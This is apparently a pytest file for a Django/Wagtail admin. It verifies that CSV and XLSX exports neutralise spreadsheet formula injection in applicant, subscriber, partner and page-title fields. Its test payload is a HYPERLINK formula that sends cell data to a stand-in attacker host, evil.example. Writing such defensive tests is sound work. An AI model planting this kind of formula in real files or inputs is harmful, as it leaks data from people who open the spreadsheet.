"""Every admin CSV export keeps what strangers typed as text: a cell that a spreadsheet would open as a formula
gets a leading apostrophe (finding 5 of issue #18). XLSX exports keep such values as text cells."""

import csv
import io

import pytest
from openpyxl import load_workbook

from django.urls import reverse

from wagtail.models import Page

from home.models import StandardPage
from home.spreadsheets import neutralise_formula

from ..factories.membership import MembershipApplicationFactory
from ..factories.newsletter import SubscriberFactory
from ..factories.partners import PartnerFactory

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("https://evil.example/?d="&A1,"Kliknij")'


def csv_rows(response):
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("text", ["=1+1", "+48 81 000", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_a_spreadsheet_would_read_as_a_formula_gets_an_apostrophe(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["Fundacja Most", "", "a=b", 12, -3.5, None])
def test_other_values_are_left_as_they_are(value):
    assert neutralise_formula(value) == value


def test_the_applications_csv_export_neutralises_a_formula_in_what_an_applicant_gave(admin_client):
    MembershipApplicationFactory(institution_name=PAYLOAD, city="@Lublin")

    header, *rows = csv_rows(admin_client.get("/admin/membership_applications/", {"export": "csv"}))

    (row,) = rows
    assert row[0] == "'" + PAYLOAD
    assert row[header.index("Miejscowość")] == "'@Lublin"


def test_the_applications_xlsx_export_keeps_a_formula_as_text(admin_client):
    MembershipApplicationFactory(institution_name=PAYLOAD)

    response = admin_client.get("/admin/membership_applications/", {"export": "xlsx"})

    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cell = workbook.active["A2"]
    assert (cell.value, cell.data_type) == (PAYLOAD, "s")


def test_the_subscribers_csv_export_neutralises_a_formula_sent_as_the_signup_source(admin_client):
    SubscriberFactory(email="anna@example.org", history__source=PAYLOAD)

    header, *rows = csv_rows(admin_client.get("/admin/snippets/newsletter/subscriber/", {"export": "csv"}))

    (row,) = [row for row in rows if row[0] == "anna@example.org"]
    assert "'" + PAYLOAD in row and PAYLOAD not in row


def test_the_partners_csv_export_neutralises_a_formula_in_a_partner_name(admin_client):
    PartnerFactory(name=PAYLOAD, slug="formula", sector="business")

    header, *rows = csv_rows(admin_client.get(reverse("wagtailsnippets_partners_partner:list"), {"export": "csv"}))

    assert ["'" + PAYLOAD] == [row[0] for row in rows if row[header.index("Slug")] == "formula"]


def test_the_translation_board_csv_export_neutralises_a_formula_in_a_page_title(admin_client, locale_pl):
    home = Page.objects.get(locale=locale_pl, depth=2)
    home.add_child(instance=StandardPage(title=PAYLOAD, slug="formula")).save_revision().publish()

    header, *rows = csv_rows(admin_client.get(reverse("editorial:translation_board"), {"export": "csv"}))

    titles = [row[0] for row in rows]
    assert "'" + PAYLOAD in titles and PAYLOAD not in titles
